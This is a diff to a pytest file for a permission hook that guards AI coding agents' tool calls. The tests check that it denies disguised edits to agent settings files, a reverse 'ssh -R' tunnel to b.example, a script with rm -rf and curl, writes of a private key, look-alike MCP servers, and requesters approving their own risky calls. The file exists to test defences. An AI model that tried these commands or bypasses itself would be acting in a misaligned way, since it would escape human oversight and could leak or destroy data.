@@ -3,6 +3,8 @@
 import io
 import json
 import os
+import subprocess
+import sys
 from types import SimpleNamespace
 from unittest import mock
 
@@ -10,6 +12,9 @@ import pytest
 import yaml
 from scene import Scene, refused
 from serving import register, served
+
+from bywire.cli.hook import DEADLINE_SECONDS
+from bywire.config.hook_files import TIMEOUT_SECONDS
 
 HOSTS = ("claude-code", "codex", "cursor")
 SHOP = {
@@ -95,6 +100,8 @@ SCRIPT = '#!/bin/sh\nset -e\ncd ../.. && rm -rf "$(pwd)/x" | tee y\ncurl http://
         ("Bash", {"command": "sed -i s/x/y/ .claude/settings.json"}, "deny"),
         ("Write", {"file_path": "/r/a.sh", "content": SCRIPT}, "silent"),
         ("Write", {"file_path": "/r/.claude/settings.local.json", "content": "{}"}, "deny"),
+        ("Write", {"file_path": "/r/.claude/./settings.json", "content": "{}"}, "deny"),
+        ("Bash", {"command": "mv .claude .c2"}, "deny"),
         ("Write", {"file_path": "/r/.cursor//hooks.json", "content": "{}"}, "deny"),
         ("Write", {"file_path": "/r/k", "content": "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n"}, "deny"),
         ("Edit", {"file_path": "a", "old_string": "`x` $(ls)", "new_string": "import '../../y'; a | tee b"}, "silent"),
@@ -103,7 +110,7 @@ SCRIPT = '#!/bin/sh\nset -e\ncd ../.. && rm -rf "$(pwd)/x" | tee y\ncurl http://
         ("mcp__shop__buy", {"a": "x"}, "silent"),
         ("mcp__shop__buy__now", {"a": "x"}, "silent"),
         ("mcp__shop__buy__later", {"a": "x"}, "deny"),
-        ("mcp__shop__risky", {}, "ask"),
+        ("mcp__shop__risky", {}, "deny"),
         ("mcp__shop__buy", {"b": "x"}, "deny"),
         ("mcp__other__buy", {"a": "x"}, "deny"),
         ("mcp__claude-code__Bash", {"command": "ls"}, "deny"),
@@ -113,11 +120,21 @@ SCRIPT = '#!/bin/sh\nset -e\ncd ../.. && rm -rf "$(pwd)/x" | tee y\ncurl http://
 def test_what_claude_code_is_told(scene, tool, parameters, expected, request):
     ran = ask(scene, call(tool, parameters, call_id=request.node.name))
     assert decision(ran) == expected, ran
-    if expected == "ask":
-        assert "/approvals/ap-" in ran.out
 
 
-def test_a_write_is_durable_before_the_answer_and_ends_with_the_report(scene):
+@pytest.mark.parametrize("decide", [(), ("--decide",)])
+def test_whoever_sits_before_the_host_does_not_stand_in_for_an_approver(scene, decide, request):
+    """Attack: the requester answers the host's own question, and it runs without permit, duties, quorum and intent."""
+    before = unreported(scene)
+    one = call("mcp__shop__risky", {}, call_id=f"k1{len(decide)}")
+    ran = ask(scene, one, *decide)
+    assert decision(ran) == "deny"
+    assert "/approvals/ap-" in ran.out
+    assert "ask again once it is approved" in ran.out
+    assert unreported(scene) == before
+
+
+def test_rule_10_a_write_is_durable_before_the_answer_and_ends_with_the_report(scene):
     before = unreported(scene)
     one = call("Write", {"file_path": "/r/b", "content": "x"}, call_id="w1", session="durable")
     assert decision(ask(scene, one)) == "silent"
@@ -186,7 +203,8 @@ def test_over_http_with_a_token_of_the_agent_s_own(scene, tmp_path):
         assert ask(scene, {**one, "hook_event_name": "PostToolUse"}, *way).code == 0
         assert decision(ask(scene, call("Bash", {"command": "ssh -R 1:a:2 b.example"}, call_id="h2"), *way)) == "deny"
         risky = ask(scene, call("mcp__shop__risky", {}, call_id="h3"), *way)
-        assert decision(risky) == "ask"
+        assert decision(risky) == "deny"
+        assert "/approvals/ap-" in risky.out
         assert decision(ask(scene, call("mcp__shop__buy__now", {"a": "x"}, call_id="h4"), *way)) == "silent"
         token.write_text("not.a.token")
         assert decision(ask(scene, one, *way)) == "deny"
@@ -195,7 +213,51 @@ def test_over_http_with_a_token_of_the_agent_s_own(scene, tmp_path):
 def test_a_server_that_is_the_gateway_already_is_not_asked_twice(scene):
     one = call("mcp__shop__risky", {}, call_id="t1")
     assert decision(ask(scene, one, "--through", "shop")) == "silent"
-    assert decision(ask(scene, one, "--through", "other")) == "ask"
+    assert decision(ask(scene, one, "--through", "other")) == "deny"
+
+
+@pytest.mark.parametrize("tool", ["mcp__shop__evil__drop_db", "mcp__shop___evil__drop_db", "mcp__shop__Evil__buy"])
+def test_a_server_named_like_one_that_is_the_gateway_is_asked_about(scene, tool):
+    """Attack: a server `shop__evil` beside `--through shop`."""
+    ran = ask(scene, call(tool, {"a": "x"}, call_id=tool), "--through", "shop")
+    assert decision(ran) == "deny"
+
+
+HANGING = """
+import os, signal, sys, threading
+import bywire.cli.hook as hook
+from bywire.cli.main import Place
+class Stdin:
+    def read(self, count):
+        {does}
+class Input: buffer = Stdin()
+sys.stdin = Input()
+hook.DEADLINE_SECONDS = {seconds}
+hook._answer("claude-code", None, "a", "", None, (), decide=False)
+"""
+
+
+@pytest.mark.parametrize(
+    ("does", "seconds", "said"),
+    [
+        ("threading.Event().wait()", 0.2, "no answer within"),
+        ("os.kill(os.getpid(), signal.SIGTERM); threading.Event().wait()", 60, "SystemExit"),
+        ("os.kill(os.getpid(), signal.SIGHUP); threading.Event().wait()", 60, "SystemExit"),
+        ("os.kill(os.getpid(), signal.SIGINT); threading.Event().wait()", 60, "KeyboardInterrupt"),
+        ("sys.exit(0)", 60, "SystemExit"),
+        ("raise MemoryError", 60, "MemoryError"),
+    ],
+)
+def test_whatever_it_hangs_in_and_whoever_ends_it_blocks(does, seconds, said):
+    """Attack: a host lets the tool run after its own timeout, and after any other exit code than 2."""
+    program = HANGING.format(does=does, seconds=seconds)
+    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=30, check=False)
+    assert (ran.returncode, ran.stdout) == (2, ""), ran
+    assert said in ran.stderr
+
+
+def test_its_own_deadline_comes_before_the_host_s():
+    assert DEADLINE_SECONDS <= TIMEOUT_SECONDS * 2 / 3
 
 
 @pytest.mark.parametrize("host", HOSTS)
